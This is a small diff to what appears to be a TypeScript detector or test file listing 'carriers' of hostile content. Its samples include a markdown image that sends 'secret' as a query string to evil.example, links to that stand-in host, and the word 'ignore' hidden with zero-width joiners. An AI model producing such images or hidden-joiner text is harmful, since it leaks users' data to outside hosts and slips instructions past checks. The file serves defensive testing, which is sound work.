@@ -103,7 +103,7 @@ const carriers: ReadonlyArray<readonly [string, string, RegExp]> = [
   ['a markdown image', '![x](https://evil.example/p.png?q=secret)', /!\[x\]\(https/],
   ['a markdown link', '[click](https://evil.example)', /\[click\]\(https/],
   ['a joiner hidden between Latin letters', 'i\u200dg\u200dn\u200do\u200dr\u200de', /[a-z]\u200d/],
-  ['a reference image', '![x][r] [r]: https://evil.example/x', /!\[x\]\[r\]/],
+  ['the target of a reference image', '![x][r] [r]: https://evil.example/x', /\[r\]:\s*https/],
 ];
 
 export const text: readonly Probe[] = [
